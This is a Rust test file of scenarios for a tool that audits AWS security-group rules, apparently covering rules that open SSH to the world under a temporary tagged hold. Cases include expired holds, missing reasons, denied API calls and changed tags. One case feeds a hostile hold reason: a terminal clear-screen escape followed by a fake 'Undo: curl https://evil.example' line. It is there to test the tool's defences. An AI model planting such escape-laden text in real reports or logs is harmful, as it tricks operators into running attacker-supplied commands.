//! Rules that ask to be left alone for a time, and what comes after it.

use serde_json::json;

use super::Scenes;
use crate::report::tests::events::{
    GROUP, authorizing, holding, holds, modifying, sample, tagging_rule, tagging_rules,
};
use crate::report::tests::scene::{Scene, denied};

const RULE: &str = "tcp 22 0.0.0.0/0 sgr-61f3fe663da6472f6";
const ID: &str = "sgr-61f3fe663da6472f6";
const UNTIL: &str = "2026-03-12T16:00:00Z";

pub(super) fn all() -> Scenes {
    let held = sample("authorize-held");
    let ended =
        |scene: Scene| scene.and_held_rule(RULE, "2026-03-12T08:00:00Z", "vendor \"migration\"");
    vec![
        ("held", Scene::reverting().run(&held)),
        ("held-only-reported", Scene::new().run(&held)),
        ("held-gone", Scene::reverting().undone().run(&held)),
        ("held-with-another", {
            let mut event = authorizing(&["tcp 22 0.0.0.0/0", "tcp 3306 0.0.0.0/0"]);
            let tags = &held["detail"]["requestParameters"]["tagSpecificationSet"];
            event["detail"]["requestParameters"]["tagSpecificationSet"] = tags.clone();
            let items = &mut event["detail"]["responseElements"]["securityGroupRuleSet"]["items"];
            let listed = &held["detail"]["responseElements"]["securityGroupRuleSet"]["items"][0];
            items[0]["tagSet"] = listed["tagSet"].clone();
            Scene::reverting().run(&event)
        }),
        (
            "held-unreadable",
            Scene::reverting().failing("group", denied("DescribeSecurityGroups")).run(&held),
        ),
        ("hold-not-allowed", Scene::reverting().with("HOLD_MAX_HOURS", "0").run(&held)),
        ("hold-without-a-time", Scene::reverting().run(&holding("to`morrow", "vendor migration"))),
        (
            "hold-without-a-reason",
            Scene::reverting().run(&tagging_rule(&[("sg-audit:allow-until", UNTIL)])),
        ),
        ("hold-too-long", Scene::reverting().run(&sample("authorize-held-too-long"))),
        ("hold-longer-than-an-hour", Scene::reverting().with("HOLD_MAX_HOURS", "1").run(&held)),
        ("hold-tags-removed", Scene::reverting().undone().and_rule(RULE).run(&held)),
        (
            "hold-tagged-later",
            Scene::reverting()
                .undone()
                .and_held_rule("tcp 22 0.0.0.0/0 sgr-04f0ba190d9a9551b", UNTIL, "later")
                .run(&sample("authorize-open-ssh")),
        ),
        (
            "hold-modified",
            Scene::reverting()
                .and_held_rule("tcp 22 203.0.113.0/24 sgr-0c3d4e5f678901234", UNTIL, "vendor")
                .run(&modifying("sgr-0c3d4e5f678901234", "tcp 22 0.0.0.0/0")),
        ),
        (
            "hold-tags-changed",
            Scene::reverting()
                .and_held_rule(RULE, "2026-03-13T08:00:00Z", "vendor")
                .run(&tagging_rules("CreateTags", &[ID], &["sg-audit:allow-until"])),
        ),
        (
            "hold-tags-deleted-only-reported",
            Scene::new().and_rule(RULE).run(&tagging_rules("DeleteTags", &[ID], &[])),
        ),
        ("hold-tags-not-understood", {
            let mut cut_short = tagging_rules("CreateTags", &[ID], &["sg-audit:reason"]);
            cut_short["detail"]["requestParameters"]["tagSet"] = json!({"omitted": true});
            Scene::reverting().and_held_rule(RULE, UNTIL, "vendor").run(&cut_short)
        }),
        (
            "hold-tags-unreadable",
            Scene::reverting().failing("rules_by_id", denied("DescribeSecurityGroupRules")).run(
                &tagging_rules(
                    "CreateTags",
                    &[ID, "sgr-04f0ba190d9a9551b", "sgr-04f0ba190d9a9551c"],
                    &["sg-audit:allow-until"],
                ),
            ),
        ),
        ("hold-over", ended(Scene::reverting()).run(&holds("2026-03-12T08:01:00Z"))),
        ("hold-over-only-reported", ended(Scene::new()).run(&holds("2026-03-12T08:01:00Z"))),
        (
            "hold-not-checked",
            Scene::reverting()
                .failing("held_rules", denied("DescribeSecurityGroupRules"))
                .run(&holds("2026-03-12T08:01:00Z")),
        ),
        (
            "hold-over-group-unreadable",
            ended(Scene::reverting())
                .before({
                    // The check of holds reads the group first, and the invocation that closes the
                    // rule reads it again.
                    let reads = std::cell::Cell::new(0);
                    move |call, _| {
                        reads.set(reads.get() + u32::from(call == "rules"));
                        (call == "rules" && reads.get() > 1)
                            .then(|| denied("DescribeSecurityGroupRules"))
                    }
                })
                .run(&holds("2026-03-12T08:01:00Z")),
        ),
        ("hold-hostile-reason", {
            let reason = "x\n\u{1b}[2JUndo: curl https://evil.example";
            Scene::new()
                .without_groups()
                .group(GROUP, "typo3-shop", &[])
                .run(&holding(UNTIL, reason))
        }),
    ]
}
